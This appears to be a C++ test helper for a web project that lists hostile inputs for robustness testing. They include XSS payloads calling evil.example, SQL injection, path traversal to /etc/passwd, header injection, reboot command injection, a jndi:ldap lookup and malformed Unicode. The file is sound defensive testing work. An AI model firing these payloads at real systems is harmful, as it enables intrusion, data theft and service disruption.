// SPDX-License-Identifier: Apache-2.0
#include "web/naughty_texts.h"

#include "base/files.h"

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <cstdlib>
#include <filesystem>

namespace ultima::test {
namespace {

using namespace std::string_literals;

std::string repeated(std::string_view text, std::size_t times) {
    std::string out;
    for (std::size_t i = 0; i < times; ++i) out += text;
    return out;
}

}  // namespace

const std::vector<std::string>& naughty_texts() {
    static const std::vector<std::string> all{
        "<script>alert(1)</script>",
        "\"><script src=//evil.example/x.js></script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' autofocus onfocus=alert(1) '",
        "</textarea></select></form><form action=//evil.example method=post>",
        "</title><svg/onload=alert(1)>",
        "<!-- --><iframe srcdoc=\"&lt;script&gt;\">",
        "javascript:alert(document.cookie)",
        "&lt;b&gt; &amp;amp; &#60;script&#62;",
        "{{token}} {{{content}}} {{#list}}{{/list}} [[Sign in]]",
        "{{=<% %>=}}<% token %>",
        "'; DROP TABLE event; --",
        "1' OR '1'='1",
        "x' UNION SELECT name, password FROM account --",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd\0.html"s,
        "a\r\nSet-Cookie: ultima=stolen\r\n\r\n<html>",
        "one\nline: more\n\n- lines",
        "%s%n%x{}{0}{:>99999999}",
        "$(reboot) `reboot` ; reboot | reboot",
        "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
        "\xE2\x80\xAE"
        "txt.exe \xE2\x80\x8F \xE2\x81\xA6 isolated",
        "\xEF\xBB\xBF"
        "begins with a mark of order",
        "zero\xE2\x80\x8B"
        "width\xE2\x80\x8D"
        "joined\xC2\xA0"
        "blank",
        "\xED\xA0\x80 half of a pair",
        "\xC0\xAF overlong, \xFF\xFE no text at all",
        "\xF0\x9F\x92\xA9\xF0\x9F\x87\xBA\xF0\x9F\x87\xB3 \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x9A\x80",
        "\xD8\xA7\xD9\x84\xD8\xB9\xD8\xB1\xD8\xA8\xD9\x8A\xD8\xA9 \xD7\xA2\xD7\x91\xD7\xA8\xD7\x99\xD7\xAA "
        "123",
        "Z" + repeated("\xCC\x8D\xCC\xA9\xCD\x9C", 60) + "algo",
        "\x01\x02\x07\x08\x0B\x1B[31m\x7F control",
        "99999999999999999999999999",
        "-1",
        "NaN",
        "0000-00-00",
        repeated("long ", 20'000),
        "   ",
    };
    return all;
}

const std::vector<std::string>& naughty_texts_of_others() {
    static const std::vector<std::string> all = [] {
        const char* data = std::getenv("ULTIMA_DATA");
        const std::filesystem::path folder =
            data != nullptr ? std::filesystem::path(data)
                            : std::filesystem::path(ULTIMA_SOURCE_DIR) / ".." / "shared" / "data";
        const auto path = folder / "security" / "blns_half.json";
        std::vector<std::string> texts;
        if (const auto file = read_file(path, 1U << 20U))
            texts = nlohmann::json::parse(*file).get<std::vector<std::string>>();
        else
            fmt::print(
                "SKIPPED: there are no naughty strings of others (ULTIMA_DATA/security/blns_half.json)\n");
        return texts;
    }();
    return all;
}

}  // namespace ultima::test
